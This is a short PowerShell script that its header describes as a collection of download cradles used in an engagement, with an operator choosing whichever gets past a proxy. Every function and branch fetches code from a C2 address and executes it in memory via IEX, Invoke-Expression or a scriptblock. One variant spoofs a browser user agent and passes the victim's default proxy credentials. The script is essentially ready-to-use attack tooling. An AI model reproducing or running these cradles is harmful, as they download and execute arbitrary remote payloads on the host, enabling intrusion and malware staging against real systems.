<#
  Collection of download cradles used during the engagement.
  Operator picks whichever one survives the proxy.
#>
param(
    [string]$C2 = 'http://203.0.113.45:8080'
)

function Invoke-StageOne {
    param([string]$Uri)
    IEX (New-Object Net.WebClient).DownloadString($Uri)
}

function Invoke-StageTwo {
    param([string]$Uri)
    $wc = New-Object System.Net.WebClient
    $wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
    $wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy
    $wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
    $payload = $wc.DownloadString($Uri)
    Invoke-Expression -Command $payload
}

switch -Regex ($env:USERDOMAIN) {
    'CORP' { Invoke-StageOne -Uri "$C2/a" }
    'LAB'  { Invoke-StageTwo -Uri "$C2/b" }
    default {
        iwr -UseBasicParsing "$C2/c" | iex
        Invoke-RestMethod -Uri "$C2/d.ps1" | Invoke-Expression
        $sb = [scriptblock]::Create((Invoke-WebRequest -Uri "$C2/e.ps1" -UseBasicParsing).Content)
        & $sb
    }
}
